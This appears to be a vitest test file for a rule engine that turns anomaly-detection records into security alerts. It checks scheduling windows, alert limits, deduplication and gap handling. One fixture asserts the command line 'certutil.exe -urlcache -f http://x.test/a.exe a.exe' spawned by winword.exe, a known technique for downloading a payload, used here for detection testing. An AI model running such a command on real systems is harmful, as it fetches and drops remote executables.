import { describe, expect, it } from 'vitest';
import { openDb } from '../store/db.js';
import { upsertRecords } from '../rarity/record-store.js';
import { InMemoryAnomalySource } from './anomaly-source.js';
import { recordStoreSource } from './record-store-source.js';
import { createRuleEngine } from './engine.js';
import { SqliteRunLog } from './run-log.js';
import { anomalyRecord, loadedRule, MIN, scoredEvent, T0 } from './test-fixtures.js';
import { rng } from '../rarity/testing.js';

const WEEK = 7 * 24 * 60 * MIN;

describe('executor schedule in event time', () => {
  it('runs a 15m rule 672 times over a week of events, in order, with [t-45m, t] windows', async () => {
    const db = openDb(':memory:');
    const engine = createRuleEngine({ db, rules: [loadedRule({})], mode: 'event-time' });
    for (let t = T0; t < T0 + WEEK; t += 5 * MIN) engine.advanceTo(t);
    const summary = await engine.finish();
    expect(summary.runs).toBe(672);
    const runs = new SqliteRunLog(db).list({ limit: 1000 }).reverse();
    expect(runs).toHaveLength(672);
    expect(runs[0]).toMatchObject({ runAtMs: T0 + 15 * MIN, fromMs: T0 - 30 * MIN, toMs: T0 + 15 * MIN, mode: 'event-time' });
    expect(runs[671].runAtMs).toBe(T0 + WEEK);
    for (let i = 1; i < runs.length; i++) {
      expect(runs[i].runAtMs - runs[i - 1].runAtMs).toBe(15 * MIN);
      expect(runs[i].toMs - runs[i].fromMs).toBe(45 * MIN);
    }
  });

  it('runs every due execution when events jump ahead, and none twice', () => {
    const engine = createRuleEngine({ rules: [loadedRule({})], mode: 'event-time', skipIdleRuns: false });
    expect(engine.advanceTo(T0 + 1)).toHaveLength(0);
    const runs = engine.advanceTo(T0 + 61 * MIN);
    expect(runs.map((r) => (r.runAtMs - T0) / MIN)).toEqual([15, 30, 45, 60]);
    expect(engine.advanceTo(T0 + 61 * MIN)).toHaveLength(0);
  });

  it('skips the runs whose whole window lies between two events, and only those', async () => {
    const engine = createRuleEngine({ rules: [loadedRule({})], mode: 'event-time' });
    expect(engine.advanceTo(T0 + 1)).toHaveLength(0);
    // [t-45m, t] windows: 15, 30, 45 still reach the event at T0+1; 60…(one year later) reach nothing.
    const YEAR = 365 * 24 * 60 * MIN;
    const runs = engine.advanceTo(T0 + YEAR + 7 * MIN);
    expect(runs.map((r) => (r.runAtMs - T0) / MIN)).toEqual([15, 30, 45]);
    const runs2 = engine.advanceTo(T0 + YEAR + 16 * MIN);
    // The run at YEAR+15m is not idle: its window holds the event at YEAR+7m.
    expect(runs2.map((r) => (r.runAtMs - T0 - YEAR) / MIN)).toEqual([15]);
    const s = await engine.finish();
    expect(s.idleRunsSkipped).toBe(YEAR / (15 * MIN) - 3);
    expect(s.byRule[0].idle_runs_skipped).toBe(s.idleRunsSkipped);
    expect(s.runs).toBe(3 + 1 + 1);
  });

  it('never skips a window that holds an anomaly record, and alerts the same with or without skipping', async () => {
    const r = rng(11);
    const DAY = 24 * 60 * MIN;
    // Sparse bursts days apart, records timestamped inside and between them.
    const times: number[] = [];
    for (let d = 0; d < 25; d++) {
      const base = T0 + Math.floor(r() * 60) * DAY + Math.floor(r() * 96) * 15 * MIN;
      for (let k = 0; k < 5; k++) times.push(base + Math.floor(r() * 40) * MIN);
    }
    times.sort((a, b) => a - b);
    const drive = async (skip: boolean) => {
      const engine = createRuleEngine({ rules: [loadedRule({})], mode: 'event-time', skipIdleRuns: skip });
      const runs: string[] = [];
      times.forEach((t, i) => {
        const bucket = Math.floor(t / (15 * MIN)) * 15 * MIN;
        if (i % 3 === 0) engine.onAnomalyRecord(anomalyRecord({ timestamp: bucket, score: 80 + (i % 20), user: `u${i}` }));
        for (const run of engine.advanceTo(t)) runs.push(`${run.runAtMs}:${run.matches}:${run.alertsCreated}:${run.duplicates}`);
      });
      const s = await engine.finish();
      return { s, runs };
    };
    const all = await drive(false);
    const skipped = await drive(true);
    expect(skipped.s.idleRunsSkipped).toBeGreaterThan(500);
    expect(skipped.s.runs + skipped.s.idleRunsSkipped).toBe(all.s.runs);
    expect(skipped.s.alerts.map((a) => a.kibana.alert.uuid)).toEqual(all.s.alerts.map((a) => a.kibana.alert.uuid));
    expect(skipped.s.alertsCreated).toBeGreaterThan(5);
    // Every run that was kept is identical; every run that was skipped found nothing.
    const kept = new Set(skipped.runs);
    for (const run of skipped.runs) expect(all.runs).toContain(run);
    for (const run of all.runs) if (!kept.has(run)) expect(run.endsWith(':0:0:0')).toBe(true);
  });

  it('interleaves rules by run time, ties in rule order', () => {
    const five = loadedRule({ rule_id: '994e40aa-8c85-43de-825e-15f665375ee8', name: 'five', interval: '5m', from: 'now-10m' });
    const engine = createRuleEngine({ rules: [loadedRule({}), five], mode: 'event-time' });
    engine.advanceTo(T0);
    const runs = engine.advanceTo(T0 + 15 * MIN);
    expect(runs.map((r) => `${r.ruleName}@${(r.runAtMs - T0) / MIN}`)).toEqual(['five@5', 'five@10', 'Unusual Process Spawned by a User@15', 'five@15']);
  });
});

describe('machine_learning rule selection', () => {
  it('selects non-interim records of its job at or above the threshold inside the window, inclusive bounds', () => {
    const src = new InMemoryAnomalySource();
    src.addAll([
      anomalyRecord({ timestamp: T0 - 30 * MIN, score: 80, user: 'at-from' }),
      anomalyRecord({ timestamp: T0 + 15 * MIN, score: 75, user: 'at-to' }),
      anomalyRecord({ timestamp: T0, score: 74.9, user: 'below' }),
      anomalyRecord({ timestamp: T0, score: 99, user: 'interim', interim: true }),
      anomalyRecord({ timestamp: T0, score: 99, user: 'other-job', job: 'problem_child_rare_process_by_host' }),
      anomalyRecord({ timestamp: T0 - 45 * MIN, score: 99, user: 'too-old' }),
    ]);
    const engine = createRuleEngine({ rules: [loadedRule({})], mode: 'event-time', anomalySource: src });
    engine.advanceTo(T0);
    engine.advanceTo(T0 + 15 * MIN);
    const users = engine.store.list().map((a) => a.user?.name);
    expect(users.sort()).toEqual(['at-from', 'at-to']);
  });

  it('reads the rarity stage\'s SQLite record store with the same inclusive window', () => {
    const db = openDb(':memory:');
    upsertRecords(db, [
      anomalyRecord({ timestamp: T0 + 15 * MIN, score: 80, user: 'at-end' }),
      anomalyRecord({ timestamp: T0, score: 70, user: 'low' }),
      anomalyRecord({ timestamp: T0, score: 99, user: 'interim', interim: true }),
    ]);
    const engine = createRuleEngine({ db, rules: [loadedRule({})], mode: 'event-time', anomalySource: recordStoreSource(db) });
    engine.advanceTo(T0);
    const [run] = engine.advanceTo(T0 + 15 * MIN);
    expect([run.matches, run.alertsCreated]).toEqual([1, 1]);
    expect(engine.store.list()[0].user?.name).toBe('at-end');
  });

  it('creates at most max_signals per run, highest scores first, warns, and leaves the rest to the next run', async () => {
    const src = new InMemoryAnomalySource();
    for (let i = 0; i < 150; i++) src.add(anomalyRecord({ timestamp: T0, score: 76 + (i % 20), user: `u${String(i).padStart(3, '0')}` }));
    const issues: string[] = [];
    const engine = createRuleEngine({ rules: [loadedRule({})], mode: 'event-time', anomalySource: src, onIssue: (i) => issues.push(i.code) });
    engine.advanceTo(T0);
    const [first] = engine.advanceTo(T0 + 15 * MIN);
    expect(first.alertsCreated).toBe(100);
    expect(first.matches).toBe(150);
    expect(first.warnings).toEqual(['max_signals (100) reached: 50 more new matches left for the next run']);
    const firstIds = new Set(engine.store.list().map((a) => a.kibana.alert.uuid));
    const firstScores = engine.store.list().map((a) => a.anomaly!.record_score);
    const [second] = engine.advanceTo(T0 + 30 * MIN);
    expect(second.alertsCreated).toBe(50);
    expect(second.duplicates).toBe(100);
    expect(second.warnings).toEqual([]);
    const laterScores = engine.store.list().filter((a) => !firstIds.has(a.kibana.alert.uuid)).map((a) => a.anomaly!.record_score);
    expect(laterScores).toHaveLength(50);
    // Highest first: nothing left for the second run scores above anything the first run took.
    expect(Math.min(...firstScores)).toBeGreaterThanOrEqual(Math.max(...laterScores));
    expect(issues).toEqual(['OS_RULE_MAX_SIGNALS']);
    expect((await engine.finish()).alertsCreated).toBe(150);
  });

  it('overlapping windows see a record three times but alert once', async () => {
    const engine = createRuleEngine({ rules: [loadedRule({})], mode: 'event-time' });
    engine.advanceTo(T0);
    engine.onAnomalyRecord(anomalyRecord({ timestamp: T0, score: 90 }));
    const runs = [...engine.advanceTo(T0 + 15 * MIN), ...engine.advanceTo(T0 + 30 * MIN), ...engine.advanceTo(T0 + 45 * MIN), ...engine.advanceTo(T0 + 60 * MIN)];
    expect(runs.map((r) => [r.matches, r.alertsCreated, r.duplicates])).toEqual([
      [1, 1, 0],
      [1, 0, 1],
      [1, 0, 1],
      [0, 0, 0],
    ]);
    const s = await engine.finish();
    expect([s.alertsCreated, s.duplicates]).toEqual([1, 2]);
  });

  it('a re-run over the same records on the same store creates no alert', async () => {
    const db = openDb(':memory:');
    const records = [anomalyRecord({ timestamp: T0, score: 90 }), anomalyRecord({ timestamp: T0 + 15 * MIN, score: 95, user: 'bob' })];
    const once = async (): Promise<number> => {
      const src = new InMemoryAnomalySource();
      src.addAll(records);
      const e = createRuleEngine({ db, rules: [loadedRule({})], mode: 'event-time', anomalySource: src });
      e.advanceTo(T0);
      e.advanceTo(T0 + 40 * MIN);
      return (await e.finish()).alertsCreated;
    };
    expect(await once()).toBe(2);
    expect(await once()).toBe(0);
    expect(new SqliteRunLog(db).list().length).toBe(6);
  });

  it('takes ECS process fields and the classifier explanation from the event behind the record', async () => {
    const engine = createRuleEngine({ rules: [loadedRule({})], mode: 'event-time' });
    const ev = scoredEvent({ timeMs: T0 + 3 * MIN, user: 'alice', line: 7 });
    engine.onScoredEvent(ev);
    engine.advanceTo(ev.timeMs);
    engine.onAnomalyRecord(anomalyRecord({ timestamp: T0, score: 88, eventIds: ['events.ndjson:7'] }));
    const { alerts } = await engine.finish();
    expect(alerts).toHaveLength(1);
    const a = alerts[0];
    expect(a.process?.command_line).toBe('certutil.exe -urlcache -f http://x.test/a.exe a.exe');
    expect(a.process?.parent?.name).toBe('winword.exe');
    expect(a.oddspawn.explanation.classifier?.top_features[0].feature).toBe('cmd.has_url');
    expect(a.oddspawn.explanation.rarity?.first_occurrence).toBe(true);
    expect(a['@timestamp']).toBe(new Date(T0 + 15 * MIN).toISOString());
    expect(a.kibana.alert.original_time).toBe(new Date(T0).toISOString());
    expect(a.kibana.alert.reason).toBe(
      'Process certutil.exe (parent winword.exe) was first seen for user alice on host WS-01: anomaly score 88 from job problem_child_rare_process_by_user.',
    );
  });
});

describe('gaps in wall-clock mode', () => {
  it('a run after downtime widens its window back to the last covered time and warns', () => {
    const db = openDb(':memory:');
    const src = new InMemoryAnomalySource();
    const codes: string[] = [];
    const start = (): ReturnType<typeof createRuleEngine> =>
      createRuleEngine({ db, rules: [loadedRule({})], mode: 'wall-clock', anomalySource: src, onIssue: (i) => codes.push(i.code) });
    const e1 = start();
    expect(e1.advanceTo(T0)).toHaveLength(1);
    expect(e1.advanceTo(T0 + 10 * MIN)).toHaveLength(0);
    const [normal] = e1.advanceTo(T0 + 15 * MIN);
    expect([normal.fromMs, normal.gapMs]).toEqual([T0 - 30 * MIN, 0]);
    // The service stops; a record is written for a bucket that no 45m window after the restart would reach.
    src.add(anomalyRecord({ timestamp: T0 + 60 * MIN, score: 90 }));
    const e2 = start();
    const [widened] = e2.advanceTo(T0 + 3 * 60 * MIN);
    expect(widened.fromMs).toBe(T0 + 15 * MIN);
    expect(widened.gapMs).toBe(T0 + 135 * MIN - (T0 + 15 * MIN));
    expect(widened.warnings[0]).toMatch(/^gap of 2h since the last covered time/);
    expect(widened.alertsCreated).toBe(1);
    expect(codes).toEqual(['OS_RULE_GAP']);
    // The next regular run has no gap.
    const [next] = e2.advanceTo(T0 + 3 * 60 * MIN + 15 * MIN);
    expect(next.gapMs).toBe(0);
  });

  it('limits the covered gap to maxGapMs', () => {
    const e = createRuleEngine({ rules: [loadedRule({})], mode: 'wall-clock', maxGapMs: 60 * MIN });
    e.advanceTo(T0);
    const [r] = e.advanceTo(T0 + 10 * 60 * MIN);
    expect(r.fromMs).toBe(T0 + 9 * 60 * MIN);
    expect(r.warnings[0]).toContain('left uncovered');
  });
});
